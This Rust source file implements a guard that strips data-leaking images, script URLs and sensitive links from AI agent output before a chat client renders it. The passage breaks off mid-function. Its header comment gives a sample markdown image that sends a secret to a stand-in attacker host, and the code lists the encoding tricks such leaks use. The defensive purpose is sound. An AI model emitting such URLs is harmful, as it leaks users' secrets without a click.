//! The link and image exfiltration guard.
//!
//! A compromised agent can leak data without calling any tool: it writes
//! `![](https://attacker.example/p.png?d=SECRET)` into its answer, and the chat client
//! that renders the answer fetches the image — zero clicks. This guard owns finding
//! every URL a renderer would act on and deciding whether it may stay.
//!
//! **Resolution.** Every URL is read the way a browser or markdown renderer reads it,
//! and every plausible reading is judged: HTML character references decoded (once and
//! twice, with or without the `;`), markdown backslash escapes removed, tabs and
//! newlines dropped, backslashes taken as slashes, and relative forms resolved against
//! two unrelated pages — a URL that reaches a host other than the page's own under
//! either (`//host`, `\\host`, `https:host`) names that host and is remote. Parsing
//! is the WHATWG parser of the `url` crate. Found are markdown images and links
//! (inline with nested brackets and balanced parentheses, reference definitions and
//! the images that use them), HTML tags (`img` `src`/`srcset` item by item, `poster`,
//! `background`, `object data`, `link`/`base`/SVG `href`, `meta` refresh, `srcdoc`,
//! `style` attributes and elements with CSS `url()` and `@import`, `a`/`form` targets;
//! `script` elements and `on…` event handlers are removed whole)
//! and bare URLs a linkifier would turn into links (`scheme://`, `www.`).
//!
//! **Judgement.** A fetch (an image or any resource loaded without a click) from a
//! host not allow-listed is removed: the fetch alone leaks. `javascript:`,
//! `vbscript:` and non-image `data:` URLs are removed wherever they are. A plain link
//! is not fetched by itself, so [`LinkPolicy`] decides: [`LinkPolicy::Strict`] (text
//! a tool sends on) removes links to hosts not allow-listed that carry any data;
//! [`LinkPolicy::KeepUnlessSensitive`] (the answer to whoever asked) keeps them unless
//! they carry personal data or secrets — credentials, a value the redactor finds, a
//! component that decodes (hex, base64, base32) to text, a sensitive parameter name
//! such as `password=`, or more data than a link needs. Link text is kept. Rewriting
//! repeats until nothing more is removed, so the guard is idempotent on its output.

use std::ops::Range;
use std::sync::OnceLock;

use base64::Engine as _;
use regex::Regex;
use serde::{Deserialize, Serialize};
use url::Url;

use super::redact::Redactor;

/// What was removed.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct RemovedUrl {
    /// `image` (anything fetched without a click) or `link`.
    pub kind: String,
    /// The host it pointed to, or the scheme (`javascript:`) of a script URL.
    pub host: String,
    /// Why it was removed.
    pub reason: String,
}

/// Output with exfiltrating links and images removed.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Defanged {
    /// The text to send.
    pub text: String,
    /// What was removed.
    pub removed: Vec<RemovedUrl>,
}

/// How links (not images: those are always judged by host alone) are judged.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum LinkPolicy {
    /// A link to a host not allow-listed loses its URL when the URL carries any data
    /// (a query, a fragment, credentials, an encoded path segment or host label) — for
    /// text a tool sends on, where someone else's client renders and follows it.
    #[default]
    Strict,
    /// A link is kept unless it carries personal data or secrets to a host not
    /// allow-listed — for the answer to whoever asked, who may have asked for exactly
    /// that link (a password-reset link with its token). One-time link tokens in a
    /// query (`?token=`) are then not redacted either.
    KeepUnlessSensitive,
}

/// Hosts output may link to; everything else loses data-carrying links and images.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ExfilGuard {
    /// Allowed hosts; an entry also allows its subdomains.
    pub allow_hosts: Vec<String>,
    /// How links to other hosts are judged.
    #[serde(default)]
    pub links: LinkPolicy,
}

/// Where a URL, as written, leads once a renderer resolves it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Target {
    /// It names a host: following or fetching it reaches that host.
    Remote {
        /// The host, lower-case, IDNA-mapped.
        host: String,
        /// The parsed URL, when the WHATWG parser accepts it.
        url: Option<Url>,
    },
    /// It runs script or active content when followed: `javascript:`, `vbscript:`,
    /// a `data:` URL that is not an image. The scheme.
    Script(String),
    /// It reaches no other host: relative to the page, inline image data, or a
    /// scheme without a host (`mailto:`, `tel:`).
    Local,
}

/// Every distinct reading of `raw` a renderer could make (see the module docs).
pub fn resolve(raw: &str) -> Vec<Target> {
    let mut forms: Vec<String> = Vec::with_capacity(6);
    for base in [raw.to_string(), markdown_unescape(raw)] {
        let once = decode_entities(&base);
        let twice = decode_entities(&once);
        for f in [base, once, twice] {
            if !forms.contains(&f) {
                forms.push(f);
            }
        }
    }
    let mut out: Vec<Target> = Vec::with_capacity(forms.len());
    for f in &forms {
        let t = resolve_one(f);
        if !out.contains(&t) {
            out.push(t);
        }
    }
    out
}

fn bases() -> &'static [Url; 2] {
    static B: OnceLock<[Url; 2]> = OnceLock::new();
    B.get_or_init(|| {
        let u = |s: &str| Url::parse(s).expect("the constant base URLs parse");
        [
            u("https://page-a.invalid/a/b"),
            u("http://page-b.invalid/c/"),
        ]
    })
}

fn scheme_of(s: &str) -> Option<String> {
    let colon = s.find(':')?;
    let scheme = &s[..colon];
    let mut bytes = scheme.bytes();
    let first = bytes.next()?;
    (first.is_ascii_alphabetic()
        && bytes.all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.')))
    .then(|| scheme.to_ascii_lowercase())
}

fn resolve_one(s: &str) -> Target {
    // What browsers do first: tabs and newlines anywhere are dropped, C0 controls and
    // spaces at either end trimmed.
    let cleaned: String = s
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect();
    let cleaned = cleaned.trim_matches(|c: char| c <= ' ');
    if cleaned.is_empty() {
        return Target::Local;
    }
    if let Some(scheme) = scheme_of(cleaned) {
        match scheme.as_str() {
            "javascript" | "vbscript" | "livescript" => return Target::Script(scheme),
            "data" => {
                let image = cleaned
                    .get(5..11)
                    .is_some_and(|m| m.eq_ignore_ascii_case("image/"));
                return if image {
                    Target::Local
                } else {
                    Target::Script(scheme)
                };
            }
            _ => {}
        }
        return match Url::parse(cleaned) {
            Ok(url) => remote(url),
            // Something with a scheme the parser refuses: if it spells an authority,
            // take its host as a browser with a laxer parser might.
            Err(_) => match lax_host(cleaned, scheme.len() + 1) {
                Some(host) => Target::Remote { host, url: None },
                None => Target::Local,
            },
        };
    }
    // Relative: resolved against two unrelated pages; a host other than the page's
    // own under either is named by the URL itself.
    for base in bases() {
        if let Ok(url) = base.join(cleaned)
            && url.host_str() != base.host_str()
        {
            return remote(url);
        }
    }
    if cleaned.starts_with(['/', '\\'])
        && cleaned[1..].starts_with(['/', '\\'])
        && let Some(host) = lax_host(cleaned, 0)
    {
        return Target::Remote { host, url: None };
    }
    Target::Local
}

fn remote(url: Url) -> Target {
    match url.host_str() {
        Some(h) if !h.is_empty() => Target::Remote {
            host: h.to_ascii_lowercase(),
            url: Some(url),
        },
        _ => Target::Local,
    }
}

/// The host of `s` after `from` when it spells `//authority`, read laxly.
fn lax_host(s: &str, from: usize) -> Option<String> {
    let rest = s.get(from..)?;
    let trimmed = rest.trim_start_matches(['/', '\\']);
    if rest.len() - trimmed.len() < 2 {
        return None;
    }
    let authority = trimmed.split(['/', '\\', '?', '#']).next().unwrap_or("");
    let hostport = authority.rsplit('@').next().unwrap_or("");
    let host = if hostport.starts_with('[') {
        hostport.split(']').next().map(|h| format!("{h}]"))?
    } else {
        hostport.split(':').next().unwrap_or("").to_string()
    };
    // Whatever it is, it is not a host on the allow list.
    let host = host.trim_end_matches('.').to_lowercase();
    (!host.is_empty()).then_some(host)
}

/// Removes markdown backslash escapes (a backslash before ASCII punctuation).
fn markdown_unescape(s: &str) -> String {
    if !s.contains('\\') {
        return s.to_string();
    }
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\'
            && let Some(&next) = chars.peek()
            && next.is_ascii_punctuation()
        {
            out.push(next);
            chars.next();
            continue;
        }
        out.push(c);
    }
    out
}

/// Decodes HTML character references once, as an HTML parser does in an attribute:
/// numeric ones with or without `;`, named ones that matter in URLs.
pub(crate) fn decode_entities(s: &str) -> String {
    if !s.contains('&') {
        return s.to_string();
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(pos) = rest.find('&') {
        out.push_str(&rest[..pos]);
        rest = &rest[pos + 1..];
        if let Some((c, used)) = reference(rest) {
            out.push(c);
            rest = &rest[used..];
        } else {
            out.push('&');
        }
    }
    out.push_str(rest);
    out
}

/// One character reference after its `&`: the character and the bytes it used.
fn reference(s: &str) -> Option<(char, usize)> {
    let b = s.as_bytes();
    if b.first() == Some(&b'#') {
        let hex = matches!(b.get(1), Some(b'x' | b'X'));
        let start = if hex { 2 } else { 1 };
        let digits = b[start..]
            .iter()
            .take_while(|c| {
                if hex {
                    c.is_ascii_hexdigit()
                } else {
                    c.is_ascii_digit()
                }
            })
            .count();
        if digits == 0 {
            return None;
        }
        let text = &s[start..start + digits];
        let value = u32::from_str_radix(text.trim_start_matches('0'), if hex { 16 } else { 10 })
            .ok()
            .or(if text.trim_start_matches('0').is_empty() {
                Some(0)
            } else {
                None
            });
        let c = value
            .and_then(char::from_u32)
            .filter(|c| *c != '\0')
            .unwrap_or('\u{FFFD}');
        let mut used = start + digits;
        if b.get(used) == Some(&b';') {
            used += 1;
        }
        return Some((c, used));
    }
    let name_len = b
        .iter()
        .take(32)
        .take_while(|c| c.is_ascii_alphanumeric())
        .count();
    let name = &s[..name_len];
    let with_semicolon = b.get(name_len) == Some(&b';');
    let c = match name {
        "amp" | "AMP" => '&',
        "lt" | "LT" => '<',
        "gt" | "GT" => '>',
        "quot" | "QUOT" => '"',
        _ if !with_semicolon => return None,
        "apos" => '\'',
        "colon" => ':',
        "sol" => '/',
        "bsol" => '\\',
        "period" => '.',
        "quest" => '?',
        "equals" => '=',
        "num" => '#',
        "percnt" => '%',
        "commat" => '@',
        "Tab" => '\t',
        "NewLine" => '\n',
        "nbsp" => '\u{A0}',
        "lpar" => '(',
        "rpar" => ')',
        "lsqb" | "lbrack" => '[',
        "rsqb" | "rbrack" => ']',
        "excl" => '!',
        "plus" => '+',
        "comma" => ',',
        "semi" => ';',
        "lowbar" | "UnderBar" => '_',
        "dash" | "hyphen" => '-',
        "ast" | "midast" => '*',
        "dollar" => '$',
        "grave" => '`',
        "tilde" => '~',
        "Hat" => '^',
        "vert" | "verbar" | "VerticalLine" => '|',
        "lcub" | "lbrace" => '{',
        "rcub" | "rbrace" => '}',
        _ => return None,
    };
    Some((c, name_len + usize::from(with_semicolon)))
}

/// What a URL's place makes of it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Role {
    /// Loaded without a click: images, frames, stylesheets, refreshes.
    Fetch,
    /// Followed on a click.
    Link,
}

/// Why one URL must go.
#[derive(Clone, Debug)]
struct Removal {
    role: Role,
    host: String,
    reason: &'static str,
}

impl Removal {
    fn note(&self) -> String {
        let what = match self.role {
            Role::Fetch => "image",
            Role::Link => "link",
        };
        if let Some(scheme) = self.host.strip_suffix(':') {
            format!("[{what} removed: {scheme} URL]")
        } else {
            format!(
                "[{what} removed: {} is not allow-listed]",
                display_host(&self.host)
            )
        }
    }

    fn record(&self) -> RemovedUrl {
        RemovedUrl {
            kind: match self.role {
                Role::Fetch => "image",
                Role::Link => "link",
            }
            .into(),
            host: self.host.clone(),
            reason: self.reason.into(),
        }
    }
}

/// The host as shown in a note: whole when its subdomain labels are a few short
/// words, else its registrable part only (the last two labels, or three under a short
/// second-level label such as `co.uk`), so a note never carries data in subdomain
/// labels and a second pass over it finds nothing to remove.
fn display_host(host: &str) -> String {
    if !host
        .chars()
        .all(|c| c.is_alphanumeric() || matches!(c, '-' | '.' | '_' | '[' | ']' | ':'))
    {
        return "a malformed host".to_string();
    }
    if host.starts_with('[') || host.bytes().all(|b| b.is_ascii_digit() || b == b'.') {
        return host.to_string();
    }
    let labels: Vec<&str> = host.trim_end_matches('.').split('.').collect();
    let n = labels.len();
    let sub = &labels[..n.saturating_sub(2)];
    let plain = |l: &&str| l.bytes().all(|b| b.is_ascii_alphabetic() || b == b'-');
    if sub.iter().all(plain) && sub.concat().len() < 16 {
        // Short words carry nothing a judge of this note would flag.
        return labels.join(".");
    }
    let keep = if labels[n - 2].len() <= 3
        && labels[n - 3].len() <= 15
        && labels[n - 3]
            .bytes()
            .all(|b| b.is_ascii_alphabetic() || b == b'-')
        && labels[n - 3] != "www"
    {
        3
    } else {
        2
    };
    if keep >= n {
        return labels.join(".");
    }
    format!("*.{}", labels[n - keep..].join("."))
}

/// One rewrite of the text.
struct Edit {
    range: Range<usize>,
    text: String,
    removal: Removal,
}

impl ExfilGuard {
    /// A guard allowing `hosts` (and their subdomains), judging links strictly.
    pub fn allowing<I, S>(hosts: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        ExfilGuard {
            allow_hosts: hosts
                .into_iter()
                .map(|h| {
                    let h = h.into();
                    let h = h.trim().trim_start_matches("*.").trim_matches('.');
                    url::Host::parse(h)
                        .map(|p| p.to_string())
                        .unwrap_or_else(|_| h.to_ascii_lowercase())
                })
                .filter(|h| !h.is_empty())
                .collect(),
            links: LinkPolicy::Strict,
        }
    }

    /// Judges links by `links`.
    pub fn with_links(mut self, links: LinkPolicy) -> Self {
        self.links = links;
        self
    }

    fn allowed(&self, host: &str) -> bool {
        let host = host.trim_end_matches('.').to_ascii_lowercase();
        self.allow_hosts.iter().any(|a| {
            let a = a.to_ascii_lowercase();
            host == a
                || (host.len() > a.len()
                    && host.ends_with(a.as_str())
                    && host.as_bytes()[host.len() - a.len() - 1] == b'.')
        })
    }

    /// Removes exfiltrating images and links from `text`.
    pub fn defang(&self, text: &str) -> Defanged {
        self.defang_depth(text, 0)
    }

    fn defang_depth(&self, text: &str, depth: u8) -> Defanged {
        let mut removed = Vec::new();
        if !may_hold_urls(text) {
            return Defanged {
                text: text.to_string(),
                removed,
            };
        }
        let mut text = text.to_string();
        // Each round removes at least one construct; a removal can expose another
        // (a link whose label held an image), so rounds repeat until none is left.
        for _ in 0..64 {
            let before = removed.len();
            for pass in [
                Self::html_edits as fn(&Self, &str, u8) -> Vec<Edit>,
                Self::markdown_inline_edits,
                Self::markdown_reference_edits,
                Self::bare_edits,
            ] {
                let edits = pass(self, &text, depth);
                if !edits.is_empty() {
                    text = apply(&text, edits, &mut removed);
                }
            }
            if removed.len() == before {
                break;
            }
        }
        Defanged { text, removed }
    }

    /// Why `raw` must go in its `role`, under any of its readings.
    fn judge(&self, raw: &str, role: Role) -> Option<Removal> {
        let raw = raw.trim();
        if raw.is_empty() {
            return None;
        }
        for target in resolve(raw) {
            match target {
                Target::Script(scheme) => {
                    return Some(Removal {
                        role,
                        host: format!("{scheme}:"),
                        reason: "runs script or active content when followed",
                    });
                }
                Target::Remote { host, url } if !self.allowed(&host) => match role {
                    Role::Fetch => {
                        return Some(Removal {
                            role,
                            host,
                            reason: "fetched without a click from a host not allow-listed",
                        });
                    }
                    Role::Link => {
                        let sensitive = url.as_ref().is_none_or(carries_sensitive);
                        if sensitive {
                            return Some(Removal {
                                role,
                                host,
                                reason: "carries personal data or secrets to a host not allow-listed",
                            });
                        }
                        if self.links == LinkPolicy::Strict
                            && url.as_ref().is_some_and(carries_data)
                        {
                            return Some(Removal {
                                role,
                                host,
                                reason: "carries data to a host not allow-listed",
                            });
                        }
                    }
                },
                _ => {}
            }
        }
        None
    }

    /// HTML tags and `style` elements.
    fn html_edits(&self, text: &str, depth: u8) -> Vec<Edit> {
        let mut edits = Vec::new();
        if !text.contains('<') {
            return edits;
        }
        for tag in html_tags(text) {
            let mut range = tag.range.clone();
            let mut found: Option<Removal> = None;
            let mut consider = |r: Option<Removal>| {
                if let Some(r) = r
                    && found.as_ref().is_none_or(|f| f.role == Role::Link)
                {
                    found = Some(r);
                }
            };
            if tag.name == "script" {
                consider(Some(Removal {
                    role: Role::Fetch,
                    host: "script:".into(),
                    reason: "runs script or active content when followed",
                }));
            }
            for (name, value) in &tag.attrs {
                if name.len() > 2 && name.starts_with("on") {
                    // An event handler runs script that can fetch anything.
                    consider(Some(Removal {
                        role: Role::Fetch,
                        host: "javascript:".into(),
                        reason: "runs script or active content when followed",
                    }));
                    continue;
                }
                let fetch_href = matches!(
                    tag.name.as_str(),
                    "link" | "image" | "use" | "feimage" | "base" | "script"
                );
                match name.as_str() {
                    "src" | "lowsrc" | "dynsrc" | "poster" | "background" | "data" | "codebase"
                    | "manifest" | "xlink:href" | "longdesc" => {
                        consider(self.judge(value, Role::Fetch))
                    }
                    "href" if fetch_href => consider(self.judge(value, Role::Fetch)),
                    "href" | "action" | "formaction" => consider(self.judge(value, Role::Link)),
                    "ping" => {
                        for v in [value.clone(), decode_entities(value)] {
                            for u in v.split_ascii_whitespace() {
                                consider(self.judge(u, Role::Link));
                            }
                        }
                    }
                    "srcset" | "imagesrcset" => {
                        for v in [value.clone(), decode_entities(value)] {
                            for u in srcset_urls(&v) {
                                consider(self.judge(u, Role::Fetch));
                            }
                            // Laxer parsers split on every comma.
                            for item in v.split(',') {
                                if let Some(u) = item.split_ascii_whitespace().next() {
                                    consider(self.judge(u, Role::Fetch));
                                }
                            }
                        }
                    }
                    "style" => {
                        for u in css_urls(&decode_entities(value)) {
                            consider(self.judge(&u, Role::Fetch));
                        }
                    }
                    "content" if tag.name == "meta" => {
                        let decoded = decode_entities(value);
                        let lower = decoded.to_ascii_lowercase();
                        if let Some(at) = lower.find("url") {
                            let rest = decoded[at + 3..].trim_start();
                            let rest = rest.strip_prefix('=').unwrap_or(rest);
                            let rest = rest.trim().trim_matches(['"', '\'']);
                            consider(self.judge(rest, Role::Fetch));
                        }
                    }
                    "srcdoc" if depth < 4 => {
                        let inner = self.defang_depth(&decode_entities(value), depth + 1);
                        if let Some(r) = inner.removed.first() {
                            consider(Some(Removal {
                                role: Role::Fetch,
                                host: r.host.clone(),
                                reason: "fetched without a click from a host not allow-listed",
                            }));
                        }
                    }
                    _ => {}
                }
            }
            if tag.name == "style" || tag.name == "script" {
                let closing = format!("</{}", tag.name);
                let close = find_ignore_case(text, tag.range.end, &closing);
                let body_end = close.unwrap_or(text.len());
                if tag.name == "style" {
                    for u in css_urls(&text[tag.range.end..body_end]) {
                        consider(self.judge(&u, Role::Fetch));
                    }
                }
                if found.is_some() {
                    range.end = close
                        .map(|c| text[c..].find('>').map_or(text.len(), |g| c + g + 1))
                        .unwrap_or(text.len());
                }
            }
            let Some(removal) = found else { continue };
            let note = removal.note();
            let replacement = if removal.role == Role::Link && tag.name == "a" {
                // `<a href=…>label</a>` keeps its label.
                match find_ignore_case(text, tag.range.end, "</a") {
                    Some(close) => {
                        let end = text[close..]
                            .find('>')
                            .map_or(text.len(), |g| close + g + 1);
                        let label = text[tag.range.end..close].to_string();
                        range.end = end;
                        if label.trim().is_empty() {
                            note
                        } else {
                            format!("{label} {note}")
                        }
                    }
                    None => note,
                }
            } else {
                note
            };
            edits.push(Edit {
                range,
                text: replacement,
                removal,
            });
        }
        edits
    }

    /// Markdown inline images and links: every `](`.
    fn markdown_inline_edits(&self, text: &str, _depth: u8) -> Vec<Edit> {
        let mut edits = Vec::new();
        let bytes = text.as_bytes();
        let mut from = 0;
        while let Some(off) = text[from..].find("](") {
            let close = from + off;
            from = close + 2;
            let Some((dest, end)) = link_destination(text, close + 2) else {
                continue;
            };
            let open = matching_open_bracket(bytes, close);
            let image =
                open.is_some_and(|o| o > 0 && bytes[o - 1] == b'!' && !escaped(bytes, o - 1));
            let role = if image { Role::Fetch } else { Role::Link };
            let Some(removal) = self.judge(&text[dest], role) else {
                continue;
            };
            let note = removal.note();
            let (start, replacement) = match (image, open) {
                (true, Some(o)) => (o - 1, note),
                (false, Some(o)) => {
                    let label = &text[o + 1..close];
                    if label.trim().is_empty() {
                        (o, note)
                    } else {
                        (o, format!("{label} {note}"))
                    }
                }
                (_, None) => (close + 1, note),
            };
            edits.push(Edit {
                range: start..end,
                text: replacement,
                removal,
            });
        }
        edits
    }

    /// Markdown reference definitions, judged as images when an image uses them.
    fn markdown_reference_edits(&self, text: &str, _depth: u8) -> Vec<Edit> {
        let mut edits = Vec::new();
        if !text.contains("]:") {
            return edits;
        }
        let p = patterns();
        let image_labels: Vec<String> = p
            .md_image_ref
            .captures_iter(text)
            .map(|c| {
                let label = c
                    .get(2)
                    .filter(|m| !m.as_str().trim().is_empty())
                    .or(c.get(1))
                    .map_or("", |m| m.as_str());
                normalize_label(label)
            })
            .collect();
        for c in p.md_definition.captures_iter(text) {
            let (Some(whole), Some(label), Some(dest)) = (c.get(0), c.get(1), c.get(2)) else {
                continue;
            };
            let dest_text = dest
                .as_str()
                .strip_prefix('<')
                .and_then(|d| d.strip_suffix('>'))
                .unwrap_or(dest.as_str());
            let role = if image_labels.contains(&normalize_label(label.as_str())) {
                Role::Fetch
            } else {
                Role::Link
            };
            if let Some(removal) = self.judge(dest_text, role) {
                let end = text[whole.end()..]
                    .find('\n')
                    .map_or(text.len(), |n| whole.end() + n);
                edits.push(Edit {
                    range: whole.start()..end,
                    text: format!("[{}]: {}", label.as_str(), removal.note()),
                    removal,
                });
            }
        }
        edits
    }

    /// Bare URLs a linkifier turns into links: `scheme://…` and `www.…`.
    fn bare_edits(&self, text: &str, _depth: u8) -> Vec<Edit> {
        let mut edits = Vec::new();
        let p = patterns();
        for token in p.token.find_iter(text) {
            let raw = token.as_str();
            // The host named in a note of an earlier removal.
            if text[..token.start()].ends_with(" removed: ") {
                continue;
            }
            if !raw.contains(['/', '\\', '&']) && !raw.to_ascii_lowercase().contains("www.") {
                continue;
            }
            let mut removal = None;
            for form in [raw.to_string(), markdown_unescape(&decode_entities(raw))] {
                for start in p.bare_start.find_iter(&form) {
                    let candidate = &form[start.start()..];
                    let candidate = if start.as_str().eq_ignore_ascii_case("www.") {
                        format!("http://{candidate}")
                    } else {
                        candidate.to_string()
                    };
                    if let Some(r) = self.judge(&candidate, Role::Link) {
                        removal = Some(r);
                        break;
                    }
                }
                if removal.is_some() {
                    break;
                }
            }
            if let Some(removal) = removal {
                edits.push(Edit {
                    range: token.range(),
                    text: removal.note(),
                    removal,
                });
            }
        }
        edits
    }
}

/// Whether `text` could hold a URL any pass looks at.
fn may_hold_urls(text: &str) -> bool {
    text.contains(['/', '\\', '&', '<', ']'])
        || text
            .as_bytes()
            .windows(4)
            .any(|w| w.eq_ignore_ascii_case(b"www."))
}

/// Applies non-overlapping edits (the outermost where they nest), recording removals.
fn apply(text: &str, mut edits: Vec<Edit>, removed: &mut Vec<RemovedUrl>) -> String {
    edits.sort_by_key(|e| (e.range.start, std::cmp::Reverse(e.range.end)));
    let mut out = String::with_capacity(text.len());
    let mut last = 0;
    for e in edits {
        if e.range.start < last {
            continue;
        }
        out.push_str(&text[last..e.range.start]);
        out.push_str(&e.text);
        removed.push(e.removal.record());
        last = e.range.end;
    }
    out.push_str(&text[last..]);
    out
}

struct Patterns {
    md_image_ref: Regex,
    md_definition: Regex,
    token: Regex,
    bare_start: Regex,
    css_url: Regex,
}

fn patterns() -> &'static Patterns {
    static P: OnceLock<Patterns> = OnceLock::new();
    P.get_or_init(|| {
        let re = |p: &str| Regex::new(p).expect("the constant URL patterns compile");
        Patterns {
            md_image_ref: re(r"!\[((?:[^\]\\]|\\.)*)\](?:\[((?:[^\]\\]|\\.)*)\])?"),
            md_definition: re(
                r"\[((?:[^\]\\\n]|\\.){1,999})\]:[ \t]*(?:\r?\n[ \t]*)?(<[^>\n]*>|[^\s]+)",
            ),
            token: re(r"[^\s<>]+"),
            bare_start: re(r"(?i)[a-z][a-z0-9+.\-]*:[/\\]{2}|www\."),
            css_url: re(
                r#"(?i)(?:url\(\s*(?:"([^"]*)"|'([^']*)'|([^)\s]*))|@import\s+(?:"([^"]*)"|'([^']*)')|image-set\(\s*(?:"([^"]*)"|'([^']*)'))"#,
            ),
        }
    })
}

fn normalize_label(label: &str) -> String {
    label
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
        .to_lowercase()
}

fn escaped(bytes: &[u8], at: usize) -> bool {
    let mut n = 0;
    let mut i = at;
    while i > 0 && bytes[i - 1] == b'\\' {
        n += 1;
        i -= 1;
    }
    n % 2 == 1
}

/// The `[` that opens the bracket closed at `close`, within a bounded look-back.
fn matching_open_bracket(bytes: &[u8], close: usize) -> Option<usize> {
    let mut depth = 0usize;
    let stop = close.saturating_sub(4096);
    let mut i = close;
    loop {
        match bytes[i] {
            b']' if !escaped(bytes, i) => depth += 1,
            b'[' if depth > 0 && !escaped(bytes, i) => {
                depth -= 1;
                if depth == 0 {
                    return Some(i);
                }
            }
            _ => {}
        }
        if i == stop {
            return None;
        }
        i -= 1;
    }
}

/// A CommonMark link destination starting at `at` (after the `(`): its range, and
/// the end of the whole `(…)` (after the `)` when there is one).
fn link_destination(text: &str, at: usize) -> Option<(Range<usize>, usize)> {
    let b = text.as_bytes();
    let n = b.len();
    let mut i = at;
    let skip_ws = |mut i: usize| {
        while i < n && matches!(b[i], b' ' | b'\t') {
            i += 1;
        }
        i
    };
    i = skip_ws(i);
    if i < n && b[i] == b'\r' {
        i += 1;
    }
    if i < n && b[i] == b'\n' {
        i += 1;
    }
    i = skip_ws(i);
    let dest = if i < n && b[i] == b'<' {
        let start = i + 1;
        let mut j = start;
        while j < n && b[j] != b'>' && b[j] != b'\n' {
            j += if b[j] == b'\\' { 2 } else { 1 };
        }
        let j = j.min(n);
        i = (j + 1).min(n);
        start..j
    } else {
        let start = i;
        let mut depth = 0usize;
        while i < n {
            match b[i] {
                b'\\' if i + 1 < n && b[i + 1].is_ascii_punctuation() => {
                    i += 2;
                    continue;
                }
                c if c <= b' ' => break,
                b'(' => depth += 1,
                b')' => {
                    if depth == 0 {
                        break;
                    }
                    depth -= 1;
                }
                _ => {}
            }
            i += 1;
        }
        start..i
    };
    if dest.is_empty() {
        return None;
    }
    let mut end = dest.end.max(i);
    let mut j = skip_ws(end);
    if j < n && b[j] == b'\n' {
        j = skip_ws(j + 1);
    }
    if j < n && matches!(b[j], b'"' | b'\'' | b'(') {
        let close = if b[j] == b'(' { b')' } else { b[j] };
        if let Some(k) = b[j + 1..].iter().position(|c| *c == close) {
            j = skip_ws(j + 1 + k + 1);
        }
    }
    if j < n && b[j] == b')' {
        end = j + 1;
    }
    Some((dest, end))
}

/// One HTML start tag.
struct Tag {
    range: Range<usize>,
    name: String,
    attrs: Vec<(String, String)>,
}

/// Start tags as an HTML tokenizer reads them (quoted values may hold `>`; a tag
/// left open runs to the end of the text).
fn html_tags(text: &str) -> Vec<Tag> {
    let b = text.as_bytes();
    let n = b.len();
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(off) = text[i..].find('<') {
        let start = i + off;
        if start + 1 >= n || !b[start + 1].is_ascii_alphabetic() {
            i = start + 1;
            continue;
        }
        let mut j = start + 1;
        while j < n && !b[j].is_ascii_whitespace() && b[j] != b'/' && b[j] != b'>' {
            j += 1;
        }
        let name = text[start + 1..j].to_ascii_lowercase();
        let mut attrs = Vec::new();
        loop {
            while j < n && (b[j].is_ascii_whitespace() || b[j] == b'/') {
                j += 1;
            }
            if j >= n {
                break;
            }
            if b[j] == b'>' {
                j += 1;
                break;
            }
            let name_start = j;
            j += 1;
            while j < n && !b[j].is_ascii_whitespace() && !matches!(b[j], b'/' | b'>' | b'=') {
                j += 1;
            }
            let attr = text[name_start..j].to_ascii_lowercase();
            let mut k = j;
            while k < n && b[k].is_ascii_whitespace() {
                k += 1;
            }
            let mut value = String::new();
            if k < n && b[k] == b'=' {
                k += 1;
                while k < n && b[k].is_ascii_whitespace() {
                    k += 1;
                }
                if k < n && matches!(b[k], b'"' | b'\'') {
                    let q = b[k];
                    let vs = k + 1;
                    let ve = b[vs..].iter().position(|c| *c == q).map_or(n, |p| vs + p);
                    value = text[vs..ve].to_string();
                    j = (ve + 1).min(n);
                } else {
                    let vs = k;
                    while k < n && !b[k].is_ascii_whitespace() && b[k] != b'>' {
                        k += 1;
                    }
                    value = text[vs..k].to_string();
                    j = k;
                }
            }
            attrs.push((attr, value));
        }
        out.push(Tag {
            range: start..j,
            name,
            attrs,
        });
        i = j.max(start + 1);
    }
    out
}

fn find_ignore_case(text: &str, from: usize, needle: &str) -> Option<usize> {
    let hay = text.as_bytes().get(from..)?;
    let nb = needle.as_bytes();
    hay.windows(nb.len())
        .position(|w| w.eq_ignore_ascii_case(nb))
        .map(|p| from + p)
}

/// The URLs of a `srcset` list, item by item as the HTML parser splits it.
fn srcset_urls(value: &str) -> Vec<&str> {
    let b = value.as_bytes();
    let n = b.len();
    let mut out = Vec::new();
    let mut i = 0;
    while i < n {
        while i < n && (b[i].is_ascii_whitespace() || b[i] == b',') {
            i += 1;
        }
        if i >= n {
            break;
        }
        let start = i;
        while i < n && !b[i].is_ascii_whitespace() {
            i += 1;
        }
        let url = &value[start..i];
        let trimmed = url.trim_end_matches(',');
        if trimmed.len() == url.len() {
            // Descriptors follow, up to a comma outside parentheses.
            let mut depth = 0usize;
            while i < n {
                match b[i] {
                    b'(' => depth += 1,
                    b')' => depth = depth.saturating_sub(1),
                    b',' if depth == 0 => break,
                    _ => {}
                }
                i += 1;
            }
        }
        if !trimmed.is_empty() {
            out.push(trimmed);
        }
    }
    out
}

/// The URLs of CSS text: `url()`, `@import` and `image-set()`, CSS escapes decoded.
fn css_urls(css: &str) -> Vec<String> {
    let css = css_unescape(css);
    patterns()
        .css_url
        .captures_iter(&css)
        .filter_map(|c| {
            c.iter()
                .skip(1)
                .flatten()
                .next()
                .map(|m| m.as_str().to_string())
        })
        .collect()
}

/// Decodes CSS escapes: `\` and 1–6 hex digits (and one whitespace), or `\` and a
/// character.
fn css_unescape(s: &str) -> String {
    if !s.contains('\\') {
        return s.to_string();
    }
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        let mut hex = String::new();
        while hex.len() < 6 && chars.peek().is_some_and(char::is_ascii_hexdigit) {
